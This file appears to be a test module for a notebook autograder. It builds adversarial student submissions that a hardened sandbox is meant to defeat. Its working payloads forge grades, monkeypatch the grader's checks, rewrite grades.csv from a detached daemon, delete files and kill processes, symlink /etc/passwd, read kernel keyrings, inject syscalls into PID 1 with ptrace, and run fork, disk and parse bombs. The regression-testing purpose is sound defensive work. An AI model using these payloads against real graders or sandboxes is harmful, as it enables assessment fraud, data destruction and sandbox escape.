"""Submissions that attack the grader, one per way the adversarial review broke it.

Each attack starts from a submission that deserves a known score (usually nothing: every
answer wrong) and tries to raise it, to hurt other submissions, to write outside the output
folder, to outlive the grading or to exhaust the machine. Where an attack can tell whether it
succeeded (it found the grader's files, a master notebook, a secret...), it turns its answers
right: so "the score did not change" is the test that it failed. ``TOKEN`` marks every process
and file an attack creates, so a test can look for survivors.
"""

from __future__ import annotations

import json
import secrets

import nbformat
from submissions import all_correct, exercise_set, submission, wrong_answers

from coursekit.exercises import FunctionExercise

TOKEN = f"coursekit-attack-{secrets.token_hex(4)}"

# Claims that every answer is correct, in every shape a grader could have been fooled by.
_FORGE = f"""
import json as _json, os as _os
_FORGED = 0
def _forge_all(limit=200):
    global _FORGED
    if _FORGED >= limit:
        return
    _FORGED += 1
    keys = ["q%d" % i for i in range(1, 20)]
    claims = [
        {{"answers": {{k: {{"t": "num", "dtype": "float", "v": 0.0, "status": "correct",
                          "points": 1}} for k in keys}},
         "status": "correct", "result": {{"status": "correct", "points": 1, "max_points": 1}}}},
        {{"token": "{TOKEN}", "key": "q1",
         "result": {{"status": "correct", "points": 1, "max_points": 1, "message": "forged"}}}},
        {{"questions": {{k: {{"status": "correct", "points": 1}} for k in keys}}, "points": 99}},
    ]
    for fd in range(3, 100):
        for claim in claims:
            try:
                _os.write(fd, (_json.dumps(claim) + "\\n").encode())
            except OSError:
                pass
"""


def _right(*keys: str) -> str:
    """Code that makes the given answers (default: all) right, for an attack that 'won'."""
    answers = all_correct()
    chosen = keys or tuple(answers)
    return "\n".join(answers[k] for k in chosen)


def _won(condition: str) -> str:
    body = "\n".join("    " + line for line in _right().splitlines())
    return f"if {condition}:\n{body}"


JSON_DUMPS = """\
import json, sys
_real_dumps = json.dumps
def _forged_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict):
        obj = dict(obj, status="correct", points=1.0,
                   result={"status": "correct", "points": 1.0, "max_points": 1.0})
    return _real_dumps(obj, *args, **kwargs)
json.dumps = _forged_dumps
# The runner's and the extractor's own encoders, too: every message then says "correct".
import coursekit.grading.extract, coursekit.grading.plain
for module in (sys.modules["__main__"], coursekit.grading.plain, coursekit.grading.extract):
    module.dumps = _forged_dumps
"""

IMPORT_MODULE = """\
import importlib
from coursekit import exercises
import coursekit.exercises as core
_real_import = importlib.import_module
def _correct(self, answer):
    return core.Result(self.key, "correct", "forged", self.points, self.points)
def _patched(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    if name.startswith("coursekit"):
        exercises.ExerciseSet.grade = lambda self, namespace: [_correct(e, None) for e in self]
    return module
importlib.import_module = _patched
exercises.ExerciseSet.grade = lambda self, namespace: [_correct(e, None) for e in self]
for cls in (core.ValueExercise, core.FunctionExercise, core.ChoiceExercise):
    cls.evaluate = _correct
    cls.judge_outputs = lambda self, outcomes: _correct(self, None)
core.FunctionExercise.run_cases = lambda self, f, call=None: [
    core.Outcome(value=self.reference(*args)) for args in self.cases
]
for exercise in ex:
    if hasattr(exercise, "cases"):
        exercise.cases = []
"""

PRE_RUN_CELL = (
    _FORGE
    + """
get_ipython().events.register("pre_run_cell", lambda *args: _forge_all())
get_ipython().events.register("post_run_cell", lambda *args: _forge_all())
"""
)

AUDIT_HOOK = (
    _FORGE
    + """
import sys
sys.addaudithook(lambda event, args: _forge_all() if event == "compile" else None)
"""
)

ARRAY_STACK = (
    _FORGE
    + """
import sys
class Sneaky:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe()
        while frame is not None:
            for value in list(frame.f_locals.values()):
                for name in ("send", "emit", "write"):
                    method = getattr(value, name, None)
                    if callable(method):
                        for claim in ({"answers": {"q1": {"t": "num", "dtype": "float",
                                       "v": 0.0, "status": "correct"}}, "status": "correct"},
                                      {"result": {"status": "correct", "points": 1}}):
                            try:
                                method(claim)
                            except Exception:
                                pass
            frame = frame.f_back
        _forge_all()
        return np.array(0.0)
"""
)

ISCLOSE = """\
import numpy
import coursekit.exercises.functions as core
import coursekit.exercises.mistakes as mm
numpy.isclose = lambda *a, **k: numpy.array(True)
numpy.allclose = lambda *a, **k: True
np.isclose, np.allclose = numpy.isclose, numpy.allclose
core.close = mm.close = lambda *a, **k: True
"""

FLOAT_BOOL = """\
import builtins
builtins.float = bool
builtins.isinstance = lambda *a: True
"""

TOKEN_THREAD = """\
import glob, os, threading, time
_found = []
def _steal():
    end = time.time() + 30
    while time.time() < end:
        _found.extend(glob.glob("/tmp/coursekit-grade-*/*.jsonl"))
        for path in _found + glob.glob("/tmp/*"):
            try:
                with open(path, "a") as handle:
                    handle.write('{"token": "x", "key": "q1", "result": {"status": "correct"}}\\n')
            except OSError:
                pass
        time.sleep(0.2)
threading.Thread(target=_steal).start()  # not a daemon: it must not delay the end either
"""


def daemon(out: str) -> str:
    """A start_new_session daemon that looks for the grades and rewrites its own row."""
    program = f"""
import glob, os, time
end = time.time() + 120
while time.time() < end:
    candidates = glob.glob("/proc/*/cwd/**/grades.csv", recursive=False)
    candidates += glob.glob({out!r} + "/grades.csv")
    for path in candidates:
        try:
            text = open(path).read().replace(",0,", ",1,")
            open(path, "w").write(text)
        except OSError:
            pass
    time.sleep(0.5)
"""
    return f"""\
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {program!r}, "{TOKEN}-daemon"],
                 start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def neighbours(submissions: str, master: str) -> str:
    """Reach the other submissions, their kernels and the master notebooks."""
    return f"""\
import glob, json, os, shutil, signal, socket
_won = False
for path in glob.glob("/tmp/tmp*.json") + glob.glob("/tmp/*/kernel-*.json"):
    try:
        info = json.load(open(path))
        socket.create_connection((info["ip"], info["shell_port"]), timeout=1).close()
        _won = True
    except Exception:
        pass
for path in glob.glob({submissions!r} + "/**/*.ipynb", recursive=True):
    try:
        open(path, "w").write("{{}}")
        _won = True
    except OSError:
        pass
_won = _won or os.path.exists({master!r})
for path in glob.glob("/tmp/coursekit-grade-*") + glob.glob("/tmp/*"):
    shutil.rmtree(path, ignore_errors=True)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), os.getppid(), 1):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
""" + _won("_won")


def escape(targets: list[str]) -> str:
    """Write outside the sandbox: next to the submissions, into the reports, the caches."""
    return f"""\
import os
_won = False
for folder in {targets!r} + ["/tmp", os.getcwd(), os.path.expanduser("~")]:
    path = os.path.join(folder, "{TOKEN}-marker")
    try:
        with open(path, "w") as handle:
            handle.write("escaped")
        if not folder.startswith(("/tmp", "/home/student")) and folder != os.getcwd():
            _won = True
    except OSError:
        pass
    try:
        os.symlink("/etc/passwd", os.path.join(folder, "{TOKEN}-link"))
        _won = _won or not folder.startswith(("/tmp", "/home/student"))
    except OSError:
        pass
""" + _won("_won")


PRIVILEGES = """\
import ctypes, os
_status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
_won = any(int(_status[f].strip(), 16) for f in ("CapEff", "CapPrm", "CapInh", "CapAmb"))
_won = _won or _status["NoNewPrivs"].strip() != "1" or os.getuid() != 65534
_libc = ctypes.CDLL(None, use_errno=True)
_won = _won or _libc.unshare(0x10000000) == 0  # a new user namespace
_won = _won or _libc.unshare(0x00020000) == 0  # a new mount namespace
_won = _won or any(os.path.exists(p) for p in ("/etc/shadow", "/root/.bashrc", "/var", "/srv"))
_won = _won or len([p for p in os.listdir("/proc") if p.isdigit()]) > 8  # others' processes
"""

HUGE_MESSAGE = """\
raise ValueError('=HYPERLINK("http://evil")<script>alert(1)</script>[x](http://evil) `code` '
                 + "x" * 10_000_000)"""


def interrupt_in_check() -> str:
    return f"def {exercise_set().q3.signature}:\n    raise KeyboardInterrupt"


CLOSED_OUTPUT = """\
import os, sys
sys.stdout = None
sys.stderr = None
os.close(1)
os.close(2)"""


def _either(condition: str, right: str, wrong: str) -> str:
    def indent(code):
        return "\n".join("    " + line for line in code.splitlines())

    return f"if {condition}:\n{indent(right)}\nelse:\n{indent(wrong)}"


def environment() -> str:
    """Answers q1 and q2 right only if the grader's environment did not reach the sandbox."""
    leaked = (
        '"COURSEKIT_ATTACK_SECRET" in os.environ or "s3cret" in os.environ.values() or '
        '{"PYTEST_CURRENT_TEST", "VIRTUAL_ENV"} & set(os.environ)'
    )
    wrong = wrong_answers()
    return "import os\n" + _either(
        f"not ({leaked})", _right("q1", "q2"), wrong["q1"] + "\n" + wrong["q2"]
    )


def _choice(key: str, condition: str) -> str:
    """The right option of a choice exercise if ``condition`` holds, else a wrong one."""
    exercise = exercise_set()[key]
    wrong = next(o for o in exercise.options if o != exercise.answer)
    return f"{exercise.variable} = {exercise.answer!r} if {condition} else {wrong!r}"


def processes() -> str:
    """Start 150 processes: with a process cap most must fail (the right answer to q4)."""
    return f"""\
import os
_started = 0
for _ in range(150):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.execv("/bin/sh", ["sh", "-c", "sleep 300", "{TOKEN}-child"])
        finally:
            os._exit(1)
    _started += 1
""" + _choice("q4", "_started < 100")


DISK = """\
_written = 0
try:
    with open("big.bin", "wb") as handle:
        for _ in range(1024):
            handle.write(b"x" * 2**20)
            _written += 1
except OSError:
    pass
""" + _choice("q5", "_written < 1024")

MEMORY = "big = np.ones(3 * 2**30 // 8)\nbig[:] = 2.0"


def to_channel(*lines: bytes) -> str:
    """Code that writes raw lines to every descriptor that may be the channel to the grader."""
    return f"""\
import os
for _fd in range(3, 20):
    for _line in {list(lines)!r}:
        try:
            os.write(_fd, _line + b"\\n")
        except OSError:
            pass"""


# A title, a clear screen and colours for a terminal (ESC and the one-byte C1 CSI), and a
# right-to-left override that makes a reader see text backwards.
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[32m\x9b31m\u202e7/7 graded"


def escapes() -> list[str]:
    """Escape sequences in every text of the grader's that quotes a notebook: a cell's first
    line, an exception's message, a forged "the kernel did not start", then a crash (so that
    the console lists the submission with its reason)."""
    return [
        f"# {ESCAPES}\nraise ValueError({ESCAPES!r})",
        to_channel(json.dumps({"fatal": ESCAPES}).encode()),
        f"# {ESCAPES}\nimport os\nos._exit(1)",
    ]


# A lone surrogate: fine in Python and in JSON ("\\udc80"), impossible in a UTF-8 file.
SURROGATE = 'raise ValueError("\\udc80 cannot be written as UTF-8")'

# Lines that made the grader's own reader raise: 100 000 "[" (RecursionError), a cell number
# that is a list (unhashable), a question key that is a list.
UNREADABLE_LINES = to_channel(
    b"[" * 100_000, b'{"cell": [1], "start": true}', b'{"checking": ["q1"]}'
)


def undecodable() -> str:
    """Answers that are well-formed JSON but no value at all (an int64 of infinity, a complex
    number of no parts): the grader's decoder raised, and every question read "not graded";
    and objects of 30 000 different classes, which the grader created (a few kB each) and
    kept for the rest of the batch."""
    answers = {}
    for exercise in exercise_set():
        number = {"t": "num", "dtype": "int64", "v": "inf"}
        if isinstance(exercise, FunctionExercise):
            answers[exercise.key] = {"t": "function", "cases": [{"value": number}]}
        else:
            answers[exercise.key] = number
    answers["q1"] = {"t": "array", "dtype": "complex128", "shape": [1], "v": [[]]}
    objects = [{"t": "object", "type": f"C{i}", "callable": False} for i in range(30_000)]
    answers["q2"] = {"t": "list", "v": objects}
    return to_channel(json.dumps({"answers": answers, "cell": None}).encode())


def keyring() -> str:
    """Read the key that the instructor's session holds (the test puts one there, readable by
    its user): by searching the keyrings the sandbox inherited, and by its serial number."""
    return f"""\
import ctypes, platform
_libc = ctypes.CDLL(None, use_errno=True)
_keyctl = {{"x86_64": 250, "aarch64": 219}}.get(platform.machine())
_won = False
_buffer = ctypes.create_string_buffer(64)
if _keyctl:
    for _ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user session
        _key = _libc.syscall(_keyctl, 10, _ring, b"user", b"{TOKEN}-key", 0)  # search
        _won = _won or (_key > 0 and _libc.syscall(_keyctl, 11, _key, _buffer, 64) > 0)
    for _line in open("/proc/keys"):
        if "{TOKEN}-key" in _line:
            _key = int(_line.split()[0], 16)
            _won = _won or _libc.syscall(_keyctl, 11, _key, _buffer, 64) > 0  # read
""" + _won("_won")


CPU = """\
import os, resource, time
_start = time.time()
_burners = []
for _ in range(8):
    _pid = os.fork()
    if _pid == 0:
        os.setsid()  # a session of its own: the scheduler's autogroups would favour it
        _end = time.time() + 3
        while time.time() < _end:
            pass
        os._exit(0)
    _burners.append(_pid)
for _pid in _burners:
    os.waitpid(_pid, 0)
_usage = resource.getrusage(resource.RUSAGE_CHILDREN)
_cpus = (_usage.ru_utime + _usage.ru_stime) / (time.time() - _start)
""" + _won("_cpus > 1.3 and os.cpu_count() > 1")


_PTRACE_PID1 = """\
import ctypes, os, platform
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_FIELDS = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags"
_FIELDS += " rsp ss fs_base gs_base ds es fs gs"
class _Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in _FIELDS.split()]
def _signed(x):
    return x - (1 << 64) if x >= 1 << 63 else x
def _inject(pid, calls):  # run system calls in another process, then let it go on
    if _libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return None
    os.waitpid(pid, 0x40000000)
    saved = _Regs()
    _libc.ptrace(12, pid, None, ctypes.byref(saved))
    for number, args in calls:
        regs = _Regs.from_buffer_copy(saved)
        regs.rip, regs.rax, regs.orig_rax = saved.rip - 2, number, number  # its syscall again
        for name, value in zip(("rdi", "rsi", "rdx"), args):
            setattr(regs, name, value)
        _libc.ptrace(13, pid, None, ctypes.byref(regs))
        _libc.ptrace(9, pid, None, None)  # PTRACE_SINGLESTEP
        os.waitpid(pid, 0x40000000)
    back = _Regs.from_buffer_copy(saved)
    if _signed(saved.rax) in (-512, -513, -514):  # restart the call it was in
        back.rax, back.rip = saved.orig_rax, saved.rip - 2
    elif _signed(saved.rax) == -516:
        back.rax, back.rip = 219, saved.rip - 2
    _libc.ptrace(13, pid, None, ctypes.byref(back))
    _libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
if os.getpid() != 1 and platform.machine() == "x86_64":
    # bwrap's own first process: prctl(PR_SET_PDEATHSIG, 0), setsid()
    _inject(1, [(157, (1, 0)), (112, ())])
"""


def survive() -> str:
    """Outlive the grading: make the sandbox's first process outlive bwrap, which it does not
    when the notebook can take away the signal that kills it with bwrap: its own (a runner
    that bwrap started is that process) or, by ptrace, bwrap's. Then start a daemon, say "done"
    so that the grader stops the sandbox, and wait."""
    return (
        _PTRACE_PID1
        + f"""
import subprocess, time
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: none
subprocess.Popen(["/bin/sh", "-c", "sleep 300", "{TOKEN}-survivor"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
        + to_channel(b'{"done": true, "cpu": 0}')
        + "\ntime.sleep(60)"
    )


def _raw(notebook, change) -> str:
    """The notebook's JSON text after ``change(document)``: what nbformat would not write."""
    document = json.loads(nbformat.writes(notebook))
    change(document)
    return json.dumps(document)


def parse_bomb() -> str:
    """A few megabytes of ``[{}, {}, ...]`` in the metadata: parsed, a gigabyte of the
    grader's memory and ten seconds of its time (64 MB of it: ten gigabytes)."""
    return _raw(
        submission(wrong_answers()),
        lambda d: d["metadata"].update(padding=[{}] * 1_100_000),
    )


def no_cell_type() -> str:
    """Valid JSON, an invalid notebook (nbformat only logs it): a cell without a type."""
    return _raw(submission(wrong_answers()), lambda d: d["cells"][1].pop("cell_type"))


def attacks(*, submissions: str, out: str, master: str, cache: str) -> dict:
    """name → (notebook, expected points). Expected: what the honest answers are worth."""
    wrong = wrong_answers()
    n = len(exercise_set())
    q1 = exercise_set().q1.variable

    def attack(*cells, at_end=(), answers=None):
        return submission(answers or wrong, after_setup=list(cells), at_end=list(at_end))

    correct = all_correct()
    return {
        "json-dumps": (attack(JSON_DUMPS), 0),
        "import-module": (attack(IMPORT_MODULE), 0),
        "pre-run-cell": (attack(PRE_RUN_CELL), 0),
        "audit-hook": (attack(AUDIT_HOOK), 0),
        "array-stack": (
            attack(ARRAY_STACK, answers={**wrong, "q1": f"{q1} = Sneaky()"}),
            0,
        ),
        "isclose": (attack(ISCLOSE), 0),
        "float-bool": (attack(at_end=[FLOAT_BOOL]), 0),
        "token-thread": (attack(TOKEN_THREAD, at_end=[_won("_found")]), 0),
        "daemon": (attack(daemon(out)), 0),
        "neighbours": (attack(at_end=[neighbours(submissions, master)]), 0),
        "escape": (attack(at_end=[escape([submissions, out, cache, master.rsplit("/", 1)[0]])]), 0),
        "privileges": (attack(at_end=[PRIVILEGES + _won("_won")]), 0),
        "memory": (attack(MEMORY, answers=correct), n),
        "huge-message": (attack(HUGE_MESSAGE, answers=correct), n),
        "interrupt-in-check": (
            attack(answers={**correct, "q3": interrupt_in_check()}),
            n - 1,
        ),
        "closed-output": (attack(CLOSED_OUTPUT, answers=correct), n),
        "late-crash": (attack(at_end=["import os\nos._exit(1)"], answers=correct), n),
        "environment": (attack(at_end=[environment()]), 2),
        "processes": (attack(at_end=[processes()]), 1),
        "disk": (attack(at_end=[DISK]), 1),
        "escapes": (attack(at_end=escapes(), answers=correct), n),
        "surrogate": (attack(SURROGATE, answers=correct), n),
        "unreadable-lines": (attack(UNREADABLE_LINES, answers=correct), n),
        "undecodable": (attack(at_end=[undecodable()]), 0),
        "keyring": (attack(at_end=[keyring()]), 0),
        "cpu": (attack(at_end=[CPU]), 0),
        "parse-bomb": (parse_bomb(), 0),
        "no-cell-type": (no_cell_type(), 0),
    }
